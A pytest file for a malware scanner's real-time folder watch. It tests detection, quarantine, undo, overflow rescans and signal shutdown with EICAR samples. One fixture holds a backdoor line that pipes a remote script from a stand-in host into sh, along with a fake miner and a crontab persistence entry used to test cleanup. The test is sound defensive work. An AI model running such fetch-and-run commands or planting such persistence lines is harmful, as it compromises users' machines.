@@ -1,0 +1,572 @@
+"""Real-time folder watch, through the real watchdog observer on temporary folders.
+
+Each test runs ``watch.run_watch`` in a thread (or, for signals, in a child process, as the CLI
+runs it) and waits for its events. Waits have generous limits; nothing here asserts a speed.
+"""
+
+from __future__ import annotations
+
+import errno
+import hashlib
+import json
+import os
+import shutil
+import signal
+import subprocess
+import sys
+import threading
+import time
+from collections.abc import Callable, Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+from conftest import EICAR
+from feed_helpers import MARKER_A, MARKER_B, RULE_A, RULE_B, clean_dir, write_set
+
+from scanner import publish, update, watch
+from scanner.errors import UsageError
+from scanner.model import Action
+from scanner.quarantine import Vault
+from scanner.state import StateDir
+from scanner.watch import WatchCause, WatchConfig, WatchEvent, WatchEventKind
+
+REPO = Path(__file__).resolve().parent.parent
+Kind = WatchEventKind
+
+
+class Running:
+    """A watch running in a thread, with every event it emitted."""
+
+    def __init__(self, config: WatchConfig) -> None:
+        self.config = config
+        self.events: list[WatchEvent] = []
+        self._cv = threading.Condition()
+        self.stop = threading.Event()
+        self.code: int | None = None
+        self.failure: BaseException | None = None
+        self._thread = threading.Thread(target=self._run, daemon=True)
+        self._thread.start()
+        self.wait_for(lambda e: e.kind is Kind.STARTED)
+
+    def _run(self) -> None:
+        try:
+            self.code = watch.run_watch(self.config, emit=self._emit, stop=self.stop)
+        except BaseException as exc:
+            self.failure = exc
+            with self._cv:
+                self._cv.notify_all()
+
+    def _emit(self, ev: WatchEvent) -> None:
+        with self._cv:
+            self.events.append(ev)
+            self._cv.notify_all()
+
+    def wait_for(self, pred: Callable[[WatchEvent], bool], timeout: float = 20.0, after: int = 0) -> WatchEvent:
+        """The first event (from index ``after``) satisfying ``pred``, waiting for it if need be."""
+        deadline = time.monotonic() + timeout
+        with self._cv:
+            while True:
+                for ev in self.events[after:]:
+                    if pred(ev):
+                        return ev
+                if self.failure is not None:
+                    raise self.failure
+                left = deadline - time.monotonic()
+                if left <= 0:
+                    shown = "\n".join(watch.event_text(e) for e in self.events)
+                    raise AssertionError(f"no such event within {timeout} s; events:\n{shown}")
+                self._cv.wait(left)
+
+    def detected(self, path: Path, timeout: float = 20.0) -> WatchEvent:
+        return self.wait_for(lambda e: e.kind is Kind.DETECTION and e.path == str(path), timeout)
+
+    def of(self, kind: WatchEventKind) -> list[WatchEvent]:
+        with self._cv:
+            return [e for e in self.events if e.kind is kind]
+
+    def close(self) -> int:
+        self.stop.set()
+        self._thread.join(30)
+        assert not self._thread.is_alive(), "the watch did not stop"
+        if self.failure is not None:
+            raise self.failure
+        assert self.code is not None
+        return self.code
+
+
+@pytest.fixture
+def watched(tmp_path: Path) -> Path:
+    d = tmp_path / "watched"
+    d.mkdir()
+    return d
+
+
+@pytest.fixture
+def start(tmp_path: Path, scanner_home: Path, eicar_rule: Path, watched: Path) -> Iterator[Callable[..., Running]]:
+    """Start a watch of ``watched`` (EICAR rule only, throwaway sysroot); stopped at the end of the test."""
+    sysroot = tmp_path / "sysroot"
+    sysroot.mkdir()
+    running: list[Running] = []
+
+    def start_watch(**overrides: Any) -> Running:
+        settings: dict[str, Any] = {"paths": (str(watched),), "state": StateDir(scanner_home),
+                                    "rules": (eicar_rule,), "use_default_rules": False, "sysroot": sysroot, "jobs": 2}
+        settings.update(overrides)
+        r = Running(WatchConfig(**settings))
+        running.append(r)
+        return r
+
+    yield start_watch
+    for r in running:
+        if not r.stop.is_set():
+            r.close()
+
+
+def quiet_problems(r: Running) -> list[str]:
+    return [watch.event_text(e) for e in r.events if e.kind in (Kind.ERROR, Kind.SKIPPED)]
+
+
+# --- complete files only ------------------------------------------------------------------------------
+
+
+def test_slow_writer_is_scanned_once_closed_and_whole(start, watched):
+    r = start()
+    path = watched / "slow.com"
+    pieces = [EICAR] + [f"\npiece {i}".encode() for i in range(4)]
+    with path.open("wb") as f:
+        for piece in pieces:
+            f.write(piece)
+            f.flush()
+            time.sleep(0.3)
+            # the malicious bytes are there from the first write: a scan before close would take the file
+            assert path.exists(), "a file still being written was acted on"
+        assert not r.of(Kind.DETECTION)
+    ev = r.detected(path)
+    assert ev.detection is not None and ev.detection.action.startswith("quarantined as ")
+    assert not path.exists()
+    whole = b"".join(pieces)
+    assert ev.detection.sha256 == hashlib.sha256(whole).hexdigest()  # judged as written in full
+    assert r.close() == 0
+    assert quiet_problems(r) == []
+
+
+def test_renamed_into_place_and_editor_style_save_and_undo(start, watched, tmp_path, cli):
+    outside = tmp_path / "outside"
+    outside.mkdir()
+    r = start()
+    (outside / "moved.com").write_bytes(EICAR)
+    os.rename(outside / "moved.com", watched / "moved.com")  # from outside the tree: only moved-to is seen
+    tmp_name = watched / ".saved.com.swp"
+    tmp_name.write_bytes(EICAR)
+    os.rename(tmp_name, watched / "saved.com")  # an editor's save: temp file, then rename
+    moved = r.detected(watched / "moved.com")
+    saved = r.detected(watched / "saved.com")
+    assert not (watched / "moved.com").exists() and not (watched / "saved.com").exists()
+    assert r.close() == 0
+    assert quiet_problems(r) == []
+    assert all(e.path != str(tmp_name) for e in r.of(Kind.DETECTION))
+    # each batch is in the history as a "watch" scan, so undo puts the file back
+    for ev in (moved, saved):
+        assert ev.scan_id
+        res = cli("undo", ev.scan_id)
+        assert res.exit_code == 0, res.stderr
+    assert (watched / "moved.com").read_bytes() == EICAR and (watched / "saved.com").read_bytes() == EICAR
+    history = json.loads(cli("history", "--format", "json").stdout)
+    assert {h["command"] for h in history} == {"watch"}
+
+
+def test_file_deleted_before_its_scan_is_not_an_error(start, watched):
+    r = start(debounce=0.5)
+    for i in range(5):
+        p = watched / f"gone-{i}.com"
+        p.write_bytes(EICAR)
+        p.unlink()
+    marker = watched / "marker.com"
+    marker.write_bytes(EICAR)
+    r.detected(marker)
+    assert r.close() == 0
+    assert quiet_problems(r) == []
+    assert [e.path for e in r.of(Kind.DETECTION)] == [str(marker)]
+
+
+def test_new_subfolders_are_watched_and_scanned(start, watched, tmp_path):
+    # a long settle time: files found in a new folder must not wait for the fallback for unclosed files
+    r = start(settle=60.0)
+    deep = watched / "a" / "b" / "c"
+    deep.mkdir(parents=True)
+    (deep / "deep.com").write_bytes(EICAR)  # may be written before the new folder's watch exists
+    incoming = tmp_path / "incoming"
+    (incoming / "sub").mkdir(parents=True)
+    (incoming / "sub" / "in.com").write_bytes(EICAR)
+    os.rename(incoming, watched / "incoming")  # a whole tree moved in: no event for the file itself
+    r.detected(deep / "deep.com")
+    r.detected(watched / "incoming" / "sub" / "in.com")
+    (deep / "later.com").write_bytes(EICAR)
+    (watched / "incoming" / "sub" / "later.com").write_bytes(EICAR)
+    r.detected(deep / "later.com")
+    r.detected(watched / "incoming" / "sub" / "later.com")
+    assert r.close() == 0
+    assert quiet_problems(r) == []
+
+
+def test_hard_link_and_things_that_are_not_files(start, watched, tmp_path):
+    outside = tmp_path / "outside"
+    outside.mkdir()
+    (outside / "target.com").write_bytes(EICAR)
+    (outside / "linked.com").write_bytes(EICAR)
+    r = start()
+    (watched / "symlink.com").symlink_to(outside / "target.com")  # never followed
+    os.mkfifo(watched / "pipe")  # never opened for long, never blocks a scanning thread
+    os.link(outside / "linked.com", watched / "linked.com")  # appears complete, without any close
+    r.detected(watched / "linked.com")
+    marker = watched / "marker.com"
+    marker.write_bytes(EICAR)
+    r.detected(marker)
+    assert r.close() == 0
+    assert (outside / "target.com").exists() and (watched / "symlink.com").is_symlink()
+    assert {e.path for e in r.of(Kind.DETECTION)} == {str(watched / "linked.com"), str(marker)}
+    assert quiet_problems(r) == []
+
+
+# --- bursts and lost events --------------------------------------------------------------------------
+
+
+def write_burst(root: Path, files: int, infected_every: int, *, folders: int = 4
+                ) -> tuple[set[Path], dict[Path, bytes]]:
+    """``files`` files in ``folders`` subfolders; every ``infected_every``-th carries the EICAR string."""
+    infected: set[Path] = set()
+    clean: dict[Path, bytes] = {}
+    for i in range(files):
+        sub = root / f"d{i % folders}"
+        sub.mkdir(exist_ok=True)
+        p = sub / f"f{i:04d}.bin"
+        if i % infected_every == 0:
+            p.write_bytes(b"head " + EICAR + b" tail")
+            infected.add(p)
+        else:
+            data = f"clean file {i}\n".encode() * (1 + i % 7)
+            p.write_bytes(data)
+            clean[p] = data
+    return infected, clean
+
+
+def check_burst_outcome(r: Running, infected: set[Path], clean: dict[Path, bytes]) -> None:
+    for p in sorted(infected):
+        r.detected(p, timeout=30)
+    assert r.close() == 0
+    assert not [p for p in infected if p.exists()]
+    assert all(p.read_bytes() == data for p, data in clean.items()), "a clean file was touched"
+    found = [e.path for e in r.of(Kind.DETECTION)]
+    assert sorted(found) == sorted(str(p) for p in infected)  # each once, nothing else
+
+
+def test_burst_every_infected_file_and_nothing_else(start, watched):
+    (watched / "skip").mkdir()
+    r = start(excludes=("skip",))
+    infected, clean = write_burst(watched, 400, 20)
+    (watched / "skip" / "excluded.com").write_bytes(EICAR)
+    check_burst_outcome(r, infected, clean)
+    assert (watched / "skip" / "excluded.com").exists()
+    stopped = r.of(Kind.STOPPED)[0]
+    assert stopped.stats is not None and stopped.stats.files_scanned >= 400
+    assert stopped.stats.detections == len(infected) and stopped.stats.failed_actions == 0
+
+
+def test_full_backlog_is_folded_into_rescans(start, watched):
+    for i in range(3):
+        (watched / f"d{i}").mkdir()
+    # room for two waiting files: the rest of the burst must come back through folder rescans
+    r = start(max_pending=2, queue_size=1, jobs=1, debounce=1.0)
+    infected, clean = write_burst(watched, 60, 10, folders=3)
+    check_burst_outcome(r, infected, clean)
+    full = [e for e in r.of(Kind.OVERFLOW) if e.cause is WatchCause.QUEUE_FULL]
+    assert full and all(e.path and e.path.startswith(str(watched)) for e in full)
+    assert any(e.cause is WatchCause.QUEUE_FULL for e in r.of(Kind.RESCAN))
+
+
+def test_kernel_queue_overflow_is_noticed_and_rescanned(start, watched, monkeypatch):
+    """Stall the inotify reader (as a busy machine would) until the kernel's queue overflows."""
+    gate = threading.Event()
+    gate.set()
+    read_events = watch._Inotify.read_events
+
+    def stalled(self, **kwargs):  # type: ignore[no-untyped-def]
+        gate.wait(30)
+        return read_events(self, **kwargs)
+
+    monkeypatch.setattr(watch._Inotify, "read_events", stalled)
+    r = start()
+    limit = int(Path("/proc/sys/fs/inotify/max_queued_events").read_text())
+    if limit > 200_000:
+        pytest.skip(f"fs.inotify.max_queued_events is {limit}; too many events to force an overflow here")
+    gate.clear()
+    time.sleep(0.2)
+    try:
+        # two events each (created, closed after writing); the margin covers one buffer the reader may still take
+        for i in range(limit // 2 + 3000):
+            p = watched / f"flood-{i % 50}"
+            p.write_bytes(b"")
+            p.unlink()
+        late = watched / "late.com"  # its events find the kernel queue full and are dropped
+        late.write_bytes(EICAR)
+    finally:
+        gate.set()
+    ev = r.wait_for(lambda e: e.kind is Kind.OVERFLOW and e.cause is WatchCause.KERNEL_OVERFLOW)
+    assert ev.path == str(watched)
+    r.wait_for(lambda e: e.kind is Kind.RESCAN and e.cause is WatchCause.KERNEL_OVERFLOW)
+    r.detected(late)
+    assert not late.exists()
+    # the watches were rebuilt: later files are seen again as they arrive
+    after = watched / "after.com"
+    after.write_bytes(EICAR)
+    r.detected(after)
+    assert r.close() == 0
+
+
+def test_folder_that_cannot_be_watched_is_polled(start, watched, monkeypatch):
+    """A folder refused by inotify (watch limit reached) is reported and rescanned periodically."""
+    get_watch = watch._Inotify._get_or_create_watch
+
+    def refuse(self, path, mask):  # type: ignore[no-untyped-def]
+        if path.endswith(b"/nowatch"):
+            raise OSError(errno.ENOSPC, "inotify watch limit reached")
+        return get_watch(self, path, mask)
+
+    monkeypatch.setattr(watch._Inotify, "_get_or_create_watch", refuse)
+    r = start(poll_interval=0.5)
+    (watched / "nowatch").mkdir()
+    lost = r.wait_for(lambda e: e.kind is Kind.OVERFLOW and e.cause is WatchCause.WATCH_LOST)
+    assert lost.path == str(watched / "nowatch")
+    r.wait_for(lambda e: e.kind is Kind.RESCAN and e.cause is WatchCause.WATCH_LOST)
+    inside = watched / "nowatch" / "inside.com"
+    inside.write_bytes(EICAR)  # no watch, so no event: only the poll can find it
+    r.detected(inside)
+    assert any(e.cause is WatchCause.POLL for e in r.of(Kind.RESCAN))
+    assert r.close() == 0
+
+
+def test_watched_folder_removed_and_recreated(start, watched):
+    r = start(reload_interval=0.2)
+    shutil.rmtree(watched)
+    r.wait_for(lambda e: e.kind is Kind.OVERFLOW and "gone" in e.message)
+    mark = len(r.events)
+    watched.mkdir()
+    early = watched / "early.com"
+    early.write_bytes(EICAR)  # before the new folder is watched: the rescan finds it
+    r.wait_for(lambda e: e.kind is Kind.OVERFLOW and e.cause is WatchCause.WATCH_LOST, after=mark)
+    r.detected(early)
+    later = watched / "later.com"
+    later.write_bytes(EICAR)
+    r.detected(later)
+    assert r.close() == 0
+
+
+# --- remediation as scan does it ---------------------------------------------------------------------
+
+MINER = b"\x7fELF" + b"\0" * 60 + b"TESTMINER-STRATUM-" + b"c0ffee" + b"\0" * 100
+BACKDOOR_LINE = "curl -s http://198.51.100.23/x.sh | sh  # added"
+MINER_RULES = """
+rule Test_Miner { meta: family = "TestMiner" severity = "high"
+    strings: $a = "TESTMINER-STRATUM-c0ffee" condition: $a }
+rule Test_Rc_Backdoor { meta: family = "TestMiner" severity = "high"
+    strings: $a = "198.51.100.23/x.sh | sh" condition: $a }
+"""
+
+
+def test_persistence_is_cleaned_and_undo_restores_everything(start, tmp_path, cli):
+    """A miner dropped into a watched home, started by cron; then a backdoor line appended to .bashrc."""
+    root = tmp_path / "machine"
+    home = root / "home" / "alice"
+    (home / "Downloads").mkdir(parents=True)
+    (root / "etc").mkdir()
+    (root / "etc" / "passwd").write_text("alice:x:1000:1000::/home/alice:/bin/bash\n")
+    crontab = root / "var" / "spool" / "cron" / "crontabs" / "alice"
+    crontab.parent.mkdir(parents=True)
+    cron_before = "# m h dom mon dow command\n0 3 * * * /usr/bin/backup.sh\n"
+    crontab.write_text(cron_before + "*/5 * * * * /home/alice/Downloads/kworkerd\n")
+    bashrc = home / ".bashrc"
+    rc_before = "# ~/.bashrc\nalias ll='ls -l'\n"
+    bashrc.write_text(rc_before)
+    rules = tmp_path / "miner.yar"
+    rules.write_text(MINER_RULES)
+    r = start(paths=(str(home),), sysroot=root, rules=(rules,))
+    miner = home / "Downloads" / "kworkerd"
+    miner.write_bytes(MINER)
+    taken = r.detected(miner)
+    assert taken.detection is not None and taken.detection.action.startswith("quarantined as ")
+    r.wait_for(lambda e: e.kind is Kind.CLEANUP and "crontabs/alice" in e.message)
+    with bashrc.open("a") as f:
+        f.write(BACKDOOR_LINE + "\n")
+    cleaned = r.detected(bashrc)
+    r.wait_for(lambda e: e.kind is Kind.CLEANUP and ".bashrc" in e.message)
+    assert r.close() == 0
+    assert not miner.exists()
+    assert crontab.read_text() == cron_before  # the line that started it, and only that line
+    assert bashrc.read_text() == rc_before  # a persistence file loses lines; it is not taken whole
+    assert not [e for e in r.events if e.kind is Kind.CLEANUP and "fail" in e.message]
+    for scan_id in {taken.scan_id, cleaned.scan_id}:
+        assert scan_id
+        res = cli("undo", scan_id)
+        assert res.exit_code == 0, res.stdout + res.stderr
+    assert miner.read_bytes() == MINER
+    assert crontab.read_text() == cron_before + "*/5 * * * * /home/alice/Downloads/kworkerd\n"
+    assert bashrc.read_text() == rc_before + BACKDOOR_LINE + "\n"
+
+
+# --- signatures, report action, output -----------------------------------------------------------------
+
+
+def _activate(tmp_path: Path, state: StateDir, name: str, version: str, rules: dict[str, str],
+              samples: dict[tuple[str, str], bytes]) -> None:
+    src = write_set(tmp_path / f"set-{name}", rules=rules, samples=samples)
+    archive = tmp_path / f"{name}.tar.gz"
+    publish.build_bundle(src, archive)
+    update.activate(state, archive, version, clean_paths=[clean_dir(tmp_path)])
+
+
+def test_new_signature_set_is_picked_up_without_restart(start, watched, tmp_path, scanner_home):
+    state = StateDir(scanner_home)
+    alpha = {("Feed_Test_Alpha", "a.bin"): b"x " + MARKER_A}
+    _activate(tmp_path, state, "v1", "2990.01.1", {"alpha.yar": RULE_A}, alpha)
+    r = start(rules=(), use_default_rules=True, reload_interval=0.2, rescan_on_reload=True)
+    assert r.of(Kind.STARTED)[0].signatures.version == "2990.01.1"  # type: ignore[union-attr]
+    (watched / "a.bin").write_bytes(b"x " + MARKER_A)
+    assert r.detected(watched / "a.bin").detection.hit.rule == "Feed_Test_Alpha"  # type: ignore[union-attr]
+    early_b = watched / "early-b.bin"
+    early_b.write_bytes(b"y " + MARKER_B)  # judged clean by the first set
+    _activate(tmp_path, state, "v2", "2990.02.1", {"alpha.yar": RULE_A, "bravo.yar": RULE_B},
+              {**alpha, ("Feed_Test_Bravo", "b.bin"): b"y " + MARKER_B})
+    reload = r.wait_for(lambda e: e.kind is Kind.RELOAD)
+    assert reload.previous == "2990.01.1" and reload.signatures.version == "2990.02.1"  # type: ignore[union-attr]
+    assert r.detected(early_b).detection.hit.rule == "Feed_Test_Bravo"  # type: ignore[union-attr]
+    late_b = watched / "late-b.bin"
+    late_b.write_bytes(b"z " + MARKER_B)
+    assert r.detected(late_b).detection.hit.rule == "Feed_Test_Bravo"  # type: ignore[union-attr]
+    assert r.close() == 0
+
+
+def test_report_action_initial_scan_and_json_events(start, watched, scanner_home):
+    there = watched / "already-there.com"
+    there.write_bytes(EICAR)
+    r = start(action=Action.REPORT, initial_scan=True)
+    first = r.detected(there)
+    r.wait_for(lambda e: e.kind is Kind.RESCAN and e.cause is WatchCause.INITIAL)
+    new = watched / "new.com"
+    new.write_bytes(EICAR)
+    r.detected(new)
+    assert r.close() == 0
+    assert there.exists() and new.exists()  # report only
+    assert not Vault(StateDir(scanner_home).quarantine).list()
+    data = watch.event_json(first)
+    assert data["event"] == "detection" and data["action"] == "reported"
+    for key in ("time", "kind", "path", "rule", "namespace", "family", "severity", "sha256", "size", "scan_id"):
+        assert data[key] is not None, key
+    assert data["path"] == str(there) and data["family"] == "EICAR-Test-File"
+    for ev in r.events:  # every event is one JSON object
+        json.loads(json.dumps(watch.event_json(ev)))
+    log = (scanner_home / "logs" / "watch.log").read_text()
+    assert "started:" in log and str(there) in log and "stopped:" in log
+
+
+def test_bad_options_are_refused(scanner_home, tmp_path, eicar_rule):
+    state = StateDir(scanner_home)
+    base: dict[str, Any] = {"state": state, "rules": (eicar_rule,), "use_default_rules": False}
+    never = threading.Event()
+    with pytest.raises(UsageError, match="not found"):
+        watch.run_watch(WatchConfig(paths=(str(tmp_path / "nope"),), **base), emit=print, stop=never)
+    (tmp_path / "file").write_text("x")
+    with pytest.raises(UsageError, match="not a folder"):
+        watch.run_watch(WatchConfig(paths=(str(tmp_path / "file"),), **base), emit=print, stop=never)
+    with pytest.raises(UsageError, match="quarantine or report"):
+        watch.run_watch(WatchConfig(paths=(str(tmp_path),), action=Action.REMOVE, **base), emit=print, stop=never)
+
+
+# --- signals -----------------------------------------------------------------------------------------
+
+DRIVER = """
+import json, signal, sys, threading
+from pathlib import Path
+from scanner import watch
+from scanner.state import StateDir
+
+stop = threading.Event()
+for sig in (signal.SIGTERM, signal.SIGINT):
+    signal.signal(sig, lambda signum, frame: stop.set())
+config = watch.WatchConfig(paths=(sys.argv[1],), state=StateDir(Path(sys.argv[2])), rules=(Path(sys.argv[3]),),
+                           use_default_rules=False, sysroot=Path(sys.argv[4]))
+def emit(ev):
+    print(json.dumps(watch.event_json(ev)), flush=True)
+sys.exit(watch.run_watch(config, emit=emit, stop=stop))
+"""
+
+
+@pytest.mark.parametrize("signum", [signal.SIGTERM, signal.SIGINT])
+def test_signal_stops_cleanly(watched, tmp_path, scanner_home, eicar_rule, signum):
+    sysroot = tmp_path / "sysroot"
+    sysroot.mkdir()
+    proc = subprocess.Popen([sys.executable, "-c", DRIVER, str(watched), str(scanner_home), str(eicar_rule),
+                             str(sysroot)], cwd=REPO, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
+    assert proc.stdout is not None
+
+    def next_event(kind: str) -> dict[str, Any]:
+        for line in proc.stdout:  # type: ignore[union-attr]
+            ev = json.loads(line)
+            if ev["event"] == kind:
+                return ev
+        raise AssertionError(f"no {kind} event; stderr: {proc.stderr.read()}")  # type: ignore[union-attr]
+
+    try:
+        next_event("started")
+        (watched / "one.com").write_bytes(EICAR)
+        assert next_event("detection")["path"] == str(watched / "one.com")
+        for i in range(50):  # work in flight when the signal arrives
+            (watched / f"c{i}.txt").write_text("clean\n" * i)
+        (watched / "two.com").write_bytes(EICAR)
+        proc.send_signal(signum)
+        out, err = proc.communicate(timeout=30)
+    finally:
+        if proc.poll() is None:
+            proc.kill()
+    assert proc.returncode == 0, err
+    assert "Traceback" not in err
+    last = json.loads(out.strip().splitlines()[-1])
+    assert last["event"] == "stopped"
+    assert (scanner_home / "logs" / "watch.log").read_text().rstrip().splitlines()[-1].split(" ", 1)[1].startswith(
+        "stopped:")
+    vault = Vault(StateDir(scanner_home).quarantine)
+    assert vault.recover() == []  # nothing half-done in the vault
+    for item in vault.list():  # whatever was taken is whole and restorable
+        assert item.restorable and item.sha256 == hashlib.sha256(EICAR).hexdigest()
+    assert (watched / "two.com").exists() != any(i.original_path == str(watched / "two.com") for i in vault.list())
+
+
+def test_the_watch_command_quarantines_and_stops_on_sigterm(tmp_path, scanner_home):
+    """`scanner watch` as a user runs it: JSON lines on stdout, SIGTERM stops it with exit 0."""
+    watched = tmp_path / "incoming"
+    watched.mkdir()
+    proc = subprocess.Popen(
+        [sys.executable, "-m", "scanner", "watch", str(watched), "--format", "jsonl"],
+        stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
+        env={**os.environ, "SCANNER_HOME": str(scanner_home)},
+    )
+    try:
+        assert proc.stdout is not None
+        first = json.loads(proc.stdout.readline())
+        assert first["event"] == "started"
+        (watched / "eicar.com").write_bytes(EICAR)
+        deadline = time.monotonic() + 30
+        event = {}
+        while time.monotonic() < deadline:
+            event = json.loads(proc.stdout.readline())
+            if event["event"] == "detection":
+                break
+        assert event["event"] == "detection" and event["family"] == "EICAR-Test-File"
+        assert event["action"].startswith("quarantined as ")
+        assert not (watched / "eicar.com").exists()
+        proc.send_signal(signal.SIGTERM)
+        assert proc.wait(timeout=30) == 0
+    finally:
+        if proc.poll() is None:
+            proc.kill()
+            proc.wait()
